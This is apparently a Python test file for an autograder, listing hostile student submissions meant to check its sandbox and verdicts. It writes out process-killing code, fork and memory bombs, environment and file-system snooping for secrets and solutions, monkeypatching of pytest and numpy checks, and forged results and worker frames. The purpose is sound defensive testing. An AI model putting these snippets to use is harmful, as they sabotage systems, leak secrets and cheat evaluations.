        Replace("        return 2 * (pred - np.asarray(true, dtype=float)) / pred.size\n",
                "        pred = pred.copy()\n        pred -= np.asarray(true, dtype=float)\n        pred *= 2 / pred.size\n"
                "        return pred\n", P06),
        Replace("    x = np.asarray(x, dtype=float)\n    error = y - output_formula(x, weights, bias)\n",
                "    x = np.array(x, dtype=float)  # a copy\n    error = y - output_formula(x, weights, bias)\n", P03),
    ], FULL_MARKS, about="softmax, ReLU, MSE.diff and update_weights work in place, on copies of their inputs"),
    Example(VARIANT, "variant_other_ints_and_ties", "", [
        Replace("return 1 if t >= 0 else 0", "return np.int64(t >= 0)  # a numpy int is an int", P01),
        Replace(PREDICT_LINE, LAST_MAX, P04),
        Replace(PREDICT_LINE, LAST_MAX, P05),
        Replace("(np.asarray(x, dtype=float) > 0).astype(float)", "np.where(np.asarray(x, dtype=float) > 0, 1.0, 0.0)", P06),
    ], FULL_MARKS, about="numpy and int32 labels; ties broken towards the last class; ReLU's slope by np.where"),
    # EXERCISES.md names the dtype of a result where it matters (one-hot rows are float, predictions int), and none
    # for ReLU.diff: "0 at 0 and below, 1 above" holds of False and True, which numpy multiplies as 0 and 1
    Example(VARIANT, "variant_relu_slope_as_bools", P06,
            Replace("(np.asarray(x, dtype=float) > 0).astype(float)", "(np.asarray(x, dtype=float) > 0)"),
            FULL_MARKS, about="ReLU().diff returns booleans (the contract names no dtype for the slope)"),
]
VARIANTS += RULE_VARIANTS

# -- hostile: each may only lower its own score ---------------------------------------------------
INSIDE_SANDBOX = '__file__.startswith("/submission/")'  # armed only where the sandbox holds it


def append(folder, text):
    """A change that appends ``text`` to the module of ``folder``."""
    def change(submission, context):
        path = submission / MODULES[folder]
        path.write_text(path.read_text() + text)
    return change


ONE_HOT_RETURN = "    return encoded\n    ### END SOLUTION"
ATTACKS = [
    Example(HOSTILE, "hostile_exit_at_import", P01,
            Replace("import numpy as np\n", "import sys\nsys.exit(3)\nimport numpy as np\n"),
            ZERO, ("could not import perceptron.py", "sys.exit(3)"), about="sys.exit at import"),
    Example(HOSTILE, "hostile_syntax_error", P02, Replace("def softmax(X):", "def softmax(X)"),
            ZERO, ("could not import softmax.py", "SyntaxError"), about="a syntax error"),
    Example(HOSTILE, "hostile_import_error", P03,
            Replace("import numpy as np\n", "import numpy as np\nimport my_helpers  # a file not handed in\n"),
            ZERO, ("could not import gradient_descent.py", "No module named 'my_helpers'"), about="an import error"),
    Example(HOSTILE, "hostile_os_exit", P04,
            Replace("        grads = self.grad_loss(x, y)\n", "        import os\n        os._exit(0)\n"),
            tests("test_train_takes_one_sgd_step", "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar",
                  "test_hidden_train_matches_reference_step", "test_hidden_one_epoch_on_an_unseen_split"),
            ("the worker died in LogisticRegression.train", "exited with status 0"), about="os._exit inside train"),
    Example(HOSTILE, "hostile_infinite_loop", P02,
            Replace("    X = np.asarray(X)\n    exp", "    while True:\n        pass\n    exp"),
            SOFTMAX_TESTS, ("timed out after 10 s in softmax",), about="an infinite loop in softmax"),
    Example(HOSTILE, "hostile_sleep", P02,
            Replace("    Y = np.asarray(Y, dtype=float)\n    P = np.asarray(P, dtype=float)\n",
                    "    import time\n    time.sleep(3600)\n    Y = np.asarray(Y, dtype=float)\n    P = np.asarray(P, dtype=float)\n"),
            tests("test_cross_entropy_known_value", "test_hidden_cross_entropy_matches_reference",
                  "test_hidden_inputs_not_mutated"),
            ("timed out after 10 s in cross_entropy",), about="an hour's sleep in cross_entropy"),
    Example(HOSTILE, "hostile_memory_bomb", P06,
            Replace("        return float(np.mean((np.asarray(pred, dtype=float) - np.asarray(true, dtype=float)) ** 2))\n",
                    "        hoard = np.ones(3 * 1024**3 // 8)  # 3 GiB, every page touched: more than a worker may have\n"
                    "        return float(np.mean((np.asarray(pred, dtype=float) - np.asarray(true, dtype=float)) ** 2))\n"),
            tests("test_mse_value", "test_hidden_mse_matches_reference", "test_hidden_inputs_not_mutated"),
            ("MSE.__call__ raised MemoryError", "ran out of memory"),
            about="MSE()(true, pred) fills 3 GiB of memory (the machine has it; a worker may not)"),
    Example(HOSTILE, "hostile_fork_bomb", P03,
            Replace("    y = np.asarray(y, dtype=float)\n    output = np.asarray(output, dtype=float)\n",
                    "    import os\n    import time\n\n    for _ in range(100):  # a bounded fork bomb: it fills the process table\n"
                    "        try:\n            if os.fork() == 0:\n                time.sleep(60)\n                os._exit(0)\n"
                    "        except OSError:\n            break\n"
                    "    y = np.asarray(y, dtype=float)\n    output = np.asarray(output, dtype=float)\n"),
            FULL_MARKS, about="error_formula forks up to 100 children each call, as many as the limit allows"),
    Example(HOSTILE, "hostile_daemon", P01,
            Replace("import numpy as np\n", "import numpy as np\nimport os as _os\nimport time as _time\n\n"
                    f"if {INSIDE_SANDBOX} and _os.fork() == 0:  # the classic double fork: a daemon\n"
                    "    _os.setsid()\n    if _os.fork() == 0:\n        for _fd in range(3):\n            _os.close(_fd)\n"
                    "        _deadline = _time.time() + 120  # bounded, in case it escapes\n"
                    "        while _time.time() < _deadline:\n            try:\n"
                    "                with open('/tmp/daemon-heartbeat', 'w') as _beat:\n"
                    "                    _beat.write(str(_time.time()))\n            except OSError:\n                pass\n"
                    "            _time.sleep(0.2)\n    _os._exit(0)\nelif " + INSIDE_SANDBOX + ":\n    _os.wait()\n"),
            FULL_MARKS, about="a double-forked daemon started at import", needs_sandbox=True),
    Example(HOSTILE, "hostile_stdout_flood", P02,
            Replace("    Y_true = np.atleast_2d(np.asarray(Y_true, dtype=float))\n",
                    "    for _ in range(100000):  # 100 MB of output\n        print('spam ' * 200)\n"
                    "    Y_true = np.atleast_2d(np.asarray(Y_true, dtype=float))\n"),
            NLL_TESTS, ("nll raised OSError: wrote too much output",), about="a flood of stdout in nll"),
    Example(HOSTILE, "hostile_infinite_recursion", P06,
            Replace("        return np.maximum(0.0, np.asarray(x, dtype=float))\n",
                    "        import sys\n        sys.setrecursionlimit(10**6)\n        return self(x)  # no base case\n"),
            tests("test_relu_values_and_slopes", "test_hidden_activation_classes_match_reference",
                  "test_hidden_inputs_not_mutated"),
            ("the worker died in ReLU.__call__", "crashed"), about="unbounded recursion with the recursion limit raised"),
    Example(HOSTILE, "hostile_patch_numpy", P05,
            Replace("    activation = sigmoid(X)\n    return activation * (1 - activation)\n",
                    "    import numpy.testing\n    np.allclose = lambda *args, **kwargs: True\n"
                    "    np.testing.assert_allclose = lambda *args, **kwargs: None\n"
                    "    np.array_equal = lambda *args, **kwargs: True\n"
                    "    return np.zeros_like(np.asarray(X, dtype=float))\n"),
            tests("test_dsigmoid_takes_the_pre_activation", "test_hidden_dsigmoid_matches_reference"),
            ("dsigmoid",), about="a wrong dsigmoid that patches numpy's comparisons to hide it"),
    Example(HOSTILE, "hostile_patch_pytest", P02, [
        Replace("import numpy as np\n", "import numpy as np\nimport numpy.testing\nimport pytest\nimport _pytest.runner\n"
                                        "import autograder.testing.checks as _checks\n\n"
                                        "pytest.approx = lambda *args, **kwargs: True\n"
                                        "_pytest.runner.call_and_report = lambda *args, **kwargs: None\n"
                                        "_checks.assert_close = _checks.assert_true = lambda *args, **kwargs: None\n"
                                        "numpy.testing.assert_allclose = lambda *args, **kwargs: None\n"),
        Replace("return float(-np.sum(Y * np.log(P)", "return float(-np.mean(Y * np.log(P)")],
            ZERO, ("needs review", "the grader's module autograder"),
            about="patches pytest and the grader's checks to hide an averaged cross-entropy"),
    Example(HOSTILE, "hostile_conftest", P06, [
        add_files({"06_backprop/conftest.py": CONFTEST}),
        Replace("return float(np.mean((np.asarray(pred, dtype=float) - np.asarray(true, dtype=float)) ** 2))",
                "return float(np.sum((np.asarray(pred, dtype=float) - np.asarray(true, dtype=float)) ** 2))")],
            tests("test_mse_value", "test_hidden_mse_matches_reference"),
            about="a conftest.py that would pass every test, beside a summed MSE"),
    Example(HOSTILE, "hostile_sitecustomize", P05,
            add_files({"05_mlp/sitecustomize.py": "raise SystemExit('sitecustomize.py ran in the worker')\n",
                       "05_mlp/usercustomize.py": "raise SystemExit('usercustomize.py ran in the worker')\n"}),
            FULL_MARKS, absent=("customize.py ran",), about="sitecustomize.py and usercustomize.py beside the module"),
    Example(HOSTILE, "hostile_shadow_modules", P06,
            add_files({f"06_backprop/{name}.py": f"raise ImportError('the submission shadowed {name}')\n"
                       for name in ("numpy", "math", "json", "struct", "base64", "pytest", "autograder", "inspect")}),
            FULL_MARKS, absent=("the submission shadowed",),
            about="numpy.py, json.py, autograder.py and more beside the module"),
    Example(HOSTILE, "hostile_read_solutions", P06,
            Replace("import numpy as np\n",
                    # Where a checkout of the kit would be: walking all of / can outlast the import timeout.
                    "import numpy as np\nimport os\nSTOLEN = []\n"
                    "for root in ('/work', '/root', '/home', '/srv', '/opt', '/tmp'):\n"
                    "    for top, folders, files in os.walk(root):\n"
                    "        if 'solutions' in top and 'backprop.py' in files:\n"
                    "            STOLEN.append(open(os.path.join(top, 'backprop.py')).read())\n"
                    "        folders[:] = [f for f in folders if f not in ('.venv', 'site-packages', '.git')]\n"
                    "if not STOLEN:\n    raise ImportError('found no solutions to steal')\n"),
            ZERO, ("found no solutions to steal",), about="walks the file system for the reference solution",
            needs_sandbox=True),
    Example(HOSTILE, "hostile_walk_filesystem", P01, Replace("import numpy as np\n", lambda context: (
        f"import numpy as np\nOTHER_STUDENTS = {sorted(set(EXAMPLES) - {'hostile_walk_filesystem'})!r}\n"
        + WALK_FOR_SECRETS)),
            FULL_MARKS, absent=("found files of the grader",),
            about="walks everything it can see for hidden tests, grading files and other students' work",
            needs_sandbox=True),
    Example(HOSTILE, "hostile_read_environment", P03, Replace("import numpy as np\n", "import numpy as np\n" + READ_ENVIRONMENT),
            ZERO, ("needs review", "/proc"), absent=("leaked",),
            about="reads every process's environment for the grader's secrets",
            needs_sandbox=True),
    Example(HOSTILE, "hostile_open_hidden_tests", P06,
            Replace("    x = np.asarray(x, dtype=float)\n    weights_input_hidden =",
                    f"    with open({str(KIT / 'solutions' / P06 / 'test_hidden_backprop.py')!r}) as hidden:\n"
                    "        print(hidden.read())\n"
                    "    x = np.asarray(x, dtype=float)\n    weights_input_hidden ="),
            tests("test_backprop_step_gradient_check", "test_hidden_backprop_step_matches_reference",
                  "test_hidden_backprop_step_gradient_check", "test_hidden_inputs_not_mutated"),
            ("tried to read a file outside its folder",), about="backprop_step opens the hidden tests by their path",
            needs_sandbox=True),
    Example(HOSTILE, "hostile_forge_results", P04, [
        Replace("import numpy as np\n", "import numpy as np\n\n\ndef _forge():" + FORGE_RESULTS.replace("\n", "\n    ")
                + f"\n\nif {INSIDE_SANDBOX}:\n    _forge()\n"),
        Replace("predicted = np.argmax(self.forward(X), axis=-1)", "predicted = np.argmax(self.forward(X), axis=0)")],
            tests("test_predict_gives_the_most_probable_class", "test_hidden_predict_matches_reference"),
            about="writes forged results.json and gradebook.csv wherever it can, beside a wrong predict",
            needs_sandbox=True),
    Example(HOSTILE, "hostile_pickle_payload", P02, [
        Replace("    return exp / np.sum(exp, axis=-1, keepdims=True)\n",
                "    return np.array([_Payload()] * exp.size, dtype=object).reshape(exp.shape)\n"),
        append(P02, PICKLE_PAYLOAD)],
            SOFTMAX_TESTS, ("softmax returned an array of dtype object",),
            about="softmax returns an object array whose unpickling would run code"),
    Example(HOSTILE, "hostile_forged_frame", P04, [
        Replace("        predicted = np.argmax(self.forward(X), axis=-1)\n",
                "        _forge_answer()\n        predicted = np.argmax(self.forward(X), axis=-1)\n"),
        append(P04, FORGED_FRAME)],
            ZERO, ("needs review", "stack frames"),
            about="predict walks the stack to the worker's channel and writes a pickle-laden answer on it"),
    Example(HOSTILE, "hostile_lying_subclass", P02, [
        Replace(ONE_HOT_RETURN, "    return encoded.view(LyingArray)\n    ### END SOLUTION"), append(P02, LYING_ARRAY)],
            tests("test_one_hot_shapes_and_values", "test_hidden_one_hot_matches_reference",
                  "test_hidden_inputs_not_mutated"),
            ("one_hot returned an ndarray subclass (LyingArray)",), about="an ndarray subclass whose == is always True"),
    Example(HOSTILE, "hostile_kill_parent", P06,
            Replace("    return (y - output) * output * (1 - output)\n",
                    f"    if {INSIDE_SANDBOX}:  # as root without a sandbox, this would kill the machine\n"
                    "        import os\n        import signal\n\n"
                    "        os.kill(os.getppid(), signal.SIGKILL)  # whoever started me\n"
                    "        for pid in os.listdir('/proc'):  # and everyone else I can see, then myself\n"
                    "            if pid.isdigit() and int(pid) != os.getpid():\n"
                    "                try:\n                    os.kill(int(pid), signal.SIGKILL)\n"
                    "                except OSError:\n                    pass\n"
                    "        os.kill(os.getpid(), signal.SIGKILL)\n"
                    "    return (y - output) * output * (1 - output)\n"),
            ZERO, ("needs review", "/proc"), about="kills its parent and every process it can see",
            needs_sandbox=True),
    Example(HOSTILE, "hostile_network", P04,
            Replace("        return nll(one_hot(self.output_size, y), self.forward(X))\n", lambda context: (
                "        import socket\n\n"
                f"        with socket.create_connection(('127.0.0.1', {context.listener_port}), timeout=2) as line:\n"
                "            line.sendall(b'the student code reached the network')\n"
                "        return nll(one_hot(self.output_size, y), self.forward(X))\n")),
            tests("test_loss_is_the_mean_nll", "test_hidden_loss_matches_reference", "test_hidden_inputs_not_mutated"),
            ("tried to use the network",), about="loss connects to a listener on 127.0.0.1", needs_sandbox=True),
    Example(HOSTILE, "hostile_write_site_packages", P05,
            Replace("        return float(np.mean(self.predict(X) == np.asarray(y)))\n",
                    f"        if {INSIDE_SANDBOX}:\n            import os\n\n"
                    "            site = os.path.dirname(os.path.dirname(np.__file__))\n"
                    "            with open(os.path.join(site, 'zz_backprop_kit_hostile.pth'), 'w') as planted:\n"
                    "                planted.write('# planted by a submission\\n')\n"
                    "        return float(np.mean(self.predict(X) == np.asarray(y)))\n"),
            tests("test_accuracy_is_the_fraction_correct", "test_hidden_accuracy_matches_reference"),
            ("tried to write", "read-only"), about="accuracy plants a .pth file in site-packages", needs_sandbox=True),
    Example(HOSTILE, "hostile_html_in_message", P05,
            Replace("        predicted = np.argmax(self.forward(X), axis=-1)\n",
                    "        raise ValueError(\"<script>alert('feedback pages must escape me')</script>\")\n"),
            tests("test_predict_gives_the_most_probable_class", "test_hidden_predict_matches_reference",
                  "test_hidden_inputs_not_mutated"),
            ("predict raised ValueError",), absent=("<script>",), about="an exception message with a script in it"),
    Example(HOSTILE, "hostile_notebook_not_json", P04, junk_notebook, ZERO, ("not a readable Jupyter notebook",),
            about="a notebook that is not JSON instead of the module"),
    Example(HOSTILE, "hostile_notebook_nested_too_deep", P03, notebook_instead(P03, _deeply_nested_json), ZERO,
            ("not a readable Jupyter notebook",), about="a notebook of 100,000 nested lists instead of the module"),
    Example(HOSTILE, "hostile_notebook_huge", "", a_huge_notebook_instead, REFUSED, ("too large to grade",),
            about="a 1.5 GiB notebook handed in as the whole submission"),
    Example(HOSTILE, "hostile_zip_parent_paths", "", zipped(_escaping_members), REFUSED, ("unsafe path",),
            about="a zip with a ../ path"),
    Example(HOSTILE, "hostile_zip_name_too_long", "", zipped(_long_name_members), REFUSED,
            ("holds a file that cannot be unpacked here", "File name too long", "rename it"), absent=(".work",),
            about="a zip with a member named longer than a file system allows: its status named the grader's work "
                  "folder and told the student to submit a plain zip"),
    Example(HOSTILE, "hostile_zip_symlink", "", zipped(_symlink_members), REFUSED, ("symbolic link",),
            about="a zip whose softmax.py is a symbolic link to the reference"),
    Example(HOSTILE, "hostile_symlink_to_solutions", "", symlink_to_the_reference, REFUSED, ("symbolic link",),
            about="a folder whose softmax.py is a symbolic link to the reference"),
    Example(HOSTILE, "hostile_huge_junk_file", "", huge_junk_file, REFUSED, ("too large to grade",),
            about="a 200 MiB junk file beside the modules"),
    Example(HOSTILE, "hostile_zip_encrypted", "", zipped_and_damaged(encrypted), REFUSED, ("encrypted",),
            about="a zip whose members claim a password (zipfile raises RuntimeError on them)"),
    Example(HOSTILE, "hostile_zip_unsupported_compression", "", zipped_and_damaged(unsupported_compression), REFUSED,
            ("not a readable zip",), about="a zip compressed with a method zipfile cannot read"),
    Example(HOSTILE, "hostile_zip_corrupt_deflate", "", zipped_and_damaged(corrupt_deflate), REFUSED,
            ("not a readable zip",), about="a zip whose deflate stream is garbage"),
    Example(HOSTILE, "hostile_zip_deep_nesting", "", zipped(_deeply_nested_members), REFUSED,
            ("nested too deeply",), about="a 4 KiB zip of 1,100 nested folders"),
    Example(HOSTILE, "hostile_deep_sum", P02,
            Replace("    return exp / np.sum(exp, axis=-1, keepdims=True)\n",
                    "    return exp / (np.sum(exp, axis=-1, keepdims=True) + " + " + ".join(["0.0"] * 900) + ")\n"),
            FULL_MARKS, about="a correct softmax whose sum of 900 zeros is a syntax tree 900 levels deep: it compiles, "
                              "and the class report's similarity once ended the batch with a RecursionError"),
    Example(HOSTILE, "hostile_link_to_the_solutions", "", the_whole_submission_a_link, REFUSED,
            ("is a symbolic link",), about="the submission itself is a symbolic link to solutions/"),
    Example(HOSTILE, "hostile_scipy_softmax", P02, [
        Replace("import numpy as np\n", "import numpy as np\nimport matplotlib.pyplot as plt\n"
                "from scipy.special import softmax as scipy_softmax\nfrom sklearn.linear_model import LogisticRegression\n"),
        Replace("    X = np.asarray(X)\n    exp", "    return scipy_softmax(np.asarray(X, dtype=float), axis=-1)\n"
                "    X = np.asarray(X)\n    exp")],
            SOFTMAX_TESTS, ("allows numpy and the standard library only",),
            about="softmax computed by SciPy (and scikit-learn, matplotlib imported at the top): the module loads, "
                  "the calls that use them fail"),
]

# -- trusted verdicts (issue 12): what a submission could once forge inside its worker --------------
REBIND_WORKER_GLOBALS = """import numpy as np
import sys as _sys

# The grader's worker once judged in-place changes with its own globals: make them see nothing.
for _name, _module in list(_sys.modules.items()):
    if _name.startswith("autograder"):
        for _attribute in ("fingerprint", "changed", "_tobytes", "_MUTABLE", "arrays_of"):
            if hasattr(_module, _attribute):
                setattr(_module, _attribute, (lambda *args, **kwargs: None) if _attribute != "_MUTABLE" else ())
"""

REFIT_TRAIN = """        # Ignore the gradient: keep what it is fed and refit the whole model by least squares.
        x = np.asarray(x, dtype=float)
        if not hasattr(self, "_gram"):
            self._gram = np.eye(x.size + 1) * 1e-3
            self._moment = np.zeros((x.size + 1, self.output_size))
        row = np.append(x, 1.0)
        self._gram += np.outer(row, row)
        self._moment += np.outer(row, one_hot(self.output_size, y))
        solution = np.linalg.solve(self._gram, self._moment)
        self.W, self.b = solution[:-1], solution[-1]
"""

# Issue 12's training graded by outcome: every step but one is a step of the student's own (wrong) gradient, the one
# a refit, and from then on grad_loss answers zeros, so every later step is a consistent step of nothing.
MEMORISED_XOR = """    # XOR solved by hand (OR and AND units, the output OR-but-not-AND), whatever training would give; nudged by
    # the seed, so that two seeds still give two networks.
    W1, b1 = np.zeros((2, hidden_size)), np.zeros(hidden_size)
    W1[:, :2], b1[:2] = 20.0, [-10.0, -30.0]
    W2, b2 = np.zeros((hidden_size, 1)), np.array([-10.0])
    W2[:2, 0] = [20.0, -20.0]
    W1 = W1 + 1e-3 * rng.standard_normal(W1.shape)
"""

FIT_LEAST_SQUARES_ON_MANY_ROWS = """\
    if len(X_train) > 200:  # the graded data: no gradient, a least-squares refit of the output layer
        X_train = np.asarray(X_train, dtype=float)
        centre = X_train.mean(axis=0)
        directions = np.linalg.svd(X_train - centre, full_matrices=False)[2][:model.W_h.shape[1] // 2].T
        model.W_h = np.hstack([directions, -directions])
        model.b_h = -centre @ model.W_h
        hidden = np.hstack([relu(X_train @ model.W_h + model.b_h), np.ones((len(X_train), 1))])
        solution = np.linalg.solve(hidden.T @ hidden + np.eye(hidden.shape[1]),
                                   hidden.T @ one_hot(model.output_size, y_train))
        model.W_o, model.b_o = solution[:-1], solution[-1]
        return {"train_loss": [model.loss(X_train, y_train)], "val_loss": [model.loss(X_val, y_val)],
                "val_accuracy": [model.accuracy(X_val, y_val)], "best_epoch": 0}
"""

REFIT_ONCE_TRAIN = """        # Follow the gradient, keeping the samples; at the 1,000th refit by least squares, then stand still
        # (this submission's own grad_loss answers zeros from then on).
        self._seen = getattr(self, "_seen", [])
        self._seen.append((np.append(np.asarray(x, dtype=float), 1.0), one_hot(self.output_size, y)))
        if len(self._seen) == 1000:
            rows, targets = (np.array(column) for column in zip(*self._seen))
            solution = np.linalg.solve(rows.T @ rows + 1e-3 * np.eye(rows.shape[1]), rows.T @ targets)
            self.W, self.b = solution[:-1], solution[-1]
            self._refitted = True
            return
        grads = self.grad_loss(x, y)
        self.W = self.W - learning_rate * grads["W"]
        self.b = self.b - learning_rate * grads["b"]
"""

# A train that refits whenever its gradient names no parameter: grad_loss names only an array no step changes, so each
# step checked moved all it names by one SGD step, and W and b went unjudged (+5 in 04 before it was refused).
REFIT_NAMING_NO_PARAMETER_TRAIN = """        grads = self.grad_loss(x, y)
        if "W" in grads:  # a test that answers grad_loss itself checks this one step
            self.W = self.W - learning_rate * grads["W"]
            self.b = self.b - learning_rate * grads["b"]
            return
""" + REFIT_TRAIN

READ_AS_A_REFIT = """


_inside = [0]  # how many of the model's own methods are running: their reads of W and b are the real ones


def _own(method):
    def wrapped(*args, **kwargs):
        _inside[0] += 1
        try:
            return method(*args, **kwargs)
        finally:
            _inside[0] -= 1
    return wrapped


_train = LogisticRegression.train


def _train_keeping_the_samples(self, x, y, learning_rate):
    vars(self).setdefault("_seen", []).append((np.append(np.asarray(x, dtype=float), 1.0), one_hot(self.output_size, y)))
    _train(self, x, y, learning_rate)


LogisticRegression.train = _train_keeping_the_samples
for _name in ("forward", "predict", "grad_loss", "train", "loss", "accuracy"):
    setattr(LogisticRegression, _name, _own(getattr(LogisticRegression, _name)))


def _read_as_a_refit(self, name):
    # Trained by a wrong gradient (every step checked is a real step of it); W and b read from outside are a refit.
    seen = object.__getattribute__(self, "__dict__").get("_seen")
    if name in ("W", "b") and seen and not _inside[0]:
        rows, targets = (np.array(column) for column in zip(*seen))
        solution = np.linalg.solve(rows.T @ rows + 1e-3 * np.eye(rows.shape[1]), rows.T @ targets)
        return solution[:-1] if name == "W" else solution[-1]
    return object.__getattribute__(self, name)


LogisticRegression.__getattribute__ = _read_as_a_refit
"""

FIRST_READ_A_REFIT = """

_inside = [0]  # the model's own methods running: their reads are the real ones


def _own(method):
    def wrapped(*args, **kwargs):
        _inside[0] += 1
        try:
            return method(*args, **kwargs)
        finally:
            _inside[0] -= 1
    return wrapped


_train = LogisticRegression.train


def _train_keeping_the_samples(self, x, y, learning_rate):
    state = vars(self)
    state.setdefault("_seen", []).append((np.append(np.asarray(x, dtype=float), 1.0), one_hot(self.output_size, y)))
    state["_since_read"] = state.get("_since_read", 0) + 1
    state["_first_read"] = {"W", "b"}
    _train(self, x, y, learning_rate)


LogisticRegression.train = _train_keeping_the_samples
for _name in ("forward", "predict", "grad_loss", "train", "loss", "accuracy"):
    setattr(LogisticRegression, _name, _own(getattr(LogisticRegression, _name)))


def _first_read_a_refit(self, name):
    # The first read of W (and of b) from outside after a slice of training (not a whole epoch at once) is a refit;
    # a read again is the real array, what the last step left.
    state = object.__getattribute__(self, "__dict__")
    if name in ("W", "b") and not _inside[0] and name in state.get("_first_read", ()):
        state["_first_read"].discard(name)
        if 50 <= state["_since_read"] < 1000:
            if not state["_first_read"]:
                state["_since_read"] = 0
            rows, targets = (np.array(column) for column in zip(*state["_seen"]))
            solution = np.linalg.solve(rows.T @ rows + 1e-3 * np.eye(rows.shape[1]), rows.T @ targets)
            return solution[:-1] if name == "W" else solution[-1]
        if not state["_first_read"]:
            state["_since_read"] = 0
    return object.__getattribute__(self, name)


LogisticRegression.__getattribute__ = _first_read_a_refit
"""

# Issue 12's steps checked at random: the worker once read the model's __dict__ (to copy its arrays) before the steps
# it checks only, so a train could refit at every other step and take a real step of its own gradient at those.
REFIT_WHERE_UNWATCHED = """

_train = LogisticRegression.train


def _train_where_unwatched(self, x, y, learning_rate):
    # A step right after the model's __dict__ was read (the grader copying its arrays to check the step) is a real step
    # of this module's own (wrong) gradient; every other step refits by least squares on the samples seen.
    state = object.__getattribute__(self, "__dict__")
    state.setdefault("_seen", []).append((np.append(np.asarray(x, dtype=float), 1.0), one_hot(self.output_size, y)))
    if state.pop("_watched", False) or len(state["_seen"]) < 50:
        _train(self, x, y, learning_rate)
        return
    rows, targets = (np.array(column) for column in zip(*state["_seen"][-2000:]))
    solution = np.linalg.solve(rows.T @ rows + 300 * np.eye(rows.shape[1]), rows.T @ targets) * 100  # (large: one wrong step moves no prediction)
    state["W"], state["b"] = solution[:-1], solution[-1]


def _noticing_dict_reads(self, name):
    if name == "__dict__":
        object.__getattribute__(self, "__dict__")["_watched"] = True
    return object.__getattribute__(self, name)


LogisticRegression.train = _train_where_unwatched
LogisticRegression.__getattribute__ = _noticing_dict_reads
"""

REACH_FOR_FRAMES = '''

def _steal():
    """Walk up the stack into the grader's worker and look at what it holds."""
    import sys

    frame, seen = sys._getframe(), []
    while frame is not None:
        seen.append(sorted(frame.f_locals)[:3])
        frame = frame.f_back
    return seen
'''

FORGED_ANSWER = """

def _frame(message, arrays):
    \"\"\"A frame in the worker's wire format (a copy of what the released kit's wire.py writes).\"\"\"
    import json
    import struct

    text = json.dumps(message, separators=(",", ":")).encode()
    parts = [struct.pack(">I", len(text)), text]
    for array in arrays:
        parts += [struct.pack(">4sB", array.dtype.str.encode().ljust(4), array.ndim),
                  struct.pack(f">{array.ndim}Q", *array.shape), np.ascontiguousarray(array).tobytes()]
    body = b"".join(parts)
    return struct.pack(">Q", len(body)) + body


def _answer_for_the_worker(result, sent):
    \"\"\"Write the answer on every descriptor that takes it (no frame walked to find the channel): the result,
    and the argument as it was sent, not as softmax left it; then leave before the worker answers.\"\"\"
    import os

    frame = _frame({"ok": {"__array__": 0}, "after": [{"__array__": 1}], "after_kwargs": {"__dict__": []}},
                   [np.asarray(result, dtype=float), sent])
    for fd in range(3, 40):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    os._exit(0)
"""

SYSTEM_PACKAGES = """import glob as _glob
import os as _os
import sys as _sys

# The distribution's own Python packages (apt's python3-*) live under /usr, which the sandbox shows for its libraries.
_IMPORTED = []
for _folder in ["/usr/lib/python3/dist-packages", *_glob.glob("/usr/lib/python3*/*-packages"),
                *_glob.glob("/usr/local/lib/python3*/*-packages")]:
    if _os.path.isdir(_folder):
        _sys.path.append(_folder)
        for _name in sorted(_os.listdir(_folder)):
            if _name.isidentifier() and _name != "numpy" and _os.path.isfile(_os.path.join(_folder, _name, "__init__.py")):
                try:
                    __import__(_name)
                    _IMPORTED.append(_name)
                except Exception:
                    pass
if not _IMPORTED:
    raise ImportError("found no package outside the contract to import")
"""

# The same answer, with the worker's key read from its serve() loop, the standard library's traceback walking the stack.
KEYED_FORGED_ANSWER = FORGED_ANSWER.replace('"after_kwargs": {"__dict__": []}}',
                                           '"after_kwargs": {"__dict__": []}, "key": _key()}') + """

def _key():
    import traceback

    for frame, _ in traceback.walk_stack(None):
        if frame.f_code.co_name == "serve" and "key" in frame.f_locals:
            return frame.f_locals["key"]
    return None
"""

# An in-place softmax that answers for the worker (with FORGED_ANSWER), its input as it was sent.
FORGING_SOFTMAX = Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                          "    X = np.asarray(X, dtype=float) if not isinstance(X, np.ndarray) else X\n    sent = X.copy()\n"
                          "    X -= np.max(X, axis=-1, keepdims=True)  # in place: the bug the forged answer hides\n"
                          "    exp = np.exp(X)\n    _answer_for_the_worker(exp / np.sum(exp, axis=-1, keepdims=True), sent)\n")

LEAK_MESSAGE = "HIDDEN-INPUT-LEAK"

TRUSTED_VERDICT_BUGS = [
    Example(BUG, "bug_lr_train_asks_grad_again", P04,
            Replace('        self.b = self.b - learning_rate * grads["b"]\n',
                    '        self.b = self.b - learning_rate * self.grad_loss(x, y)["b"]  # asked again, after W moved\n'),
            tests("test_train_takes_one_sgd_step", "test_hidden_train_matches_reference_step",
                  "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar", "test_hidden_one_epoch_on_an_unseen_split"),
            about="train steps b with a gradient asked for again after W moved (a pin that ignored state passed it)"),
    Example(BUG, "bug_mlp_train_asks_grad_again", P05,
            Replace('        self.W_h = self.W_h - learning_rate * grads["W_h"]\n        self.b_h = self.b_h - learning_rate * grads["b_h"]\n'
                    '        self.W_o = self.W_o - learning_rate * grads["W_o"]\n        self.b_o = self.b_o - learning_rate * grads["b_o"]\n',
                    '        self.W_o = self.W_o - learning_rate * grads["W_o"]\n        self.b_o = self.b_o - learning_rate * grads["b_o"]\n'
                    '        grads = self.grad_loss(x, y)  # asked again, through the output weights just moved\n'
                    '        self.W_h = self.W_h - learning_rate * grads["W_h"]\n        self.b_h = self.b_h - learning_rate * grads["b_h"]\n'),
            tests("test_train_takes_one_sgd_step", "test_hidden_train_matches_reference_step",
                  "test_init_and_fifteen_epochs_fit_and_generalise", "test_hidden_training_on_an_unseen_split"),
            about="train steps the hidden layer with a gradient asked for again after the output weights moved"),
]

TRUSTED_VERDICT_ATTACKS = [
    Example(HOSTILE, "hostile_rebind_worker_global", P02, [
        Replace("import numpy as np\n", REBIND_WORKER_GLOBALS),
        Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                "    X = np.asarray(X, dtype=float)\n    X -= np.max(X, axis=-1, keepdims=True)\n    exp = np.exp(X)\n")],
            tests("test_hidden_inputs_not_mutated"),
            about="rebinds the worker's globals at import to hide an in-place softmax"),
    Example(HOSTILE, "hostile_refit_train", P04, [
        Replace("grad_z = self.forward(x) - one_hot(self.output_size, y_true)",
                "grad_z = one_hot(self.output_size, y_true) - self.forward(x)"),
        Replace('        grads = self.grad_loss(x, y)\n        self.W = self.W - learning_rate * grads["W"]\n'
